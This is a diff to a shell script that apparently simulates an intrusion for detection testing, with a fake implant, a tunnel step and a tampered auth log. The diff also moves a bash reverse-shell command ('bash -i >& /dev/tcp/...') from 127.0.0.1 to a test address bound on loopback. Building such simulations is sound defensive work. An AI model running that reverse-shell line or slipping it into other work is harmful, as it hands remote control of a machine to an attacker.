@@ -7,6 +7,7 @@ mount --make-rprivate /
 for system in /etc/cron.d /etc/systemd/system /var/log; do mount -t tmpfs tmpfs "$system"; done
 echo 'old entries' > /var/log/auth.log
 ip link set lo up
+ip address add 192.0.2.66 dev lo         # connections of a host to itself are no detection
 mkdir "$folder/www"
 cp /bin/true "$folder/www/implant"
 echo ': stage two' > "$folder/www/stage.sh"
@@ -41,4 +42,4 @@ dd if="$folder/disk" of=/dev/null count=1 2> /dev/null || true
 # Out by questions
 $python "$scripts/intruder.py" tunnel
 # A shell for the attacker
-bash -c "bash -i >& /dev/tcp/127.0.0.1/$shell 0>&1" || true
+bash -c "bash -i >& /dev/tcp/192.0.2.66/$shell 0>&1" || true
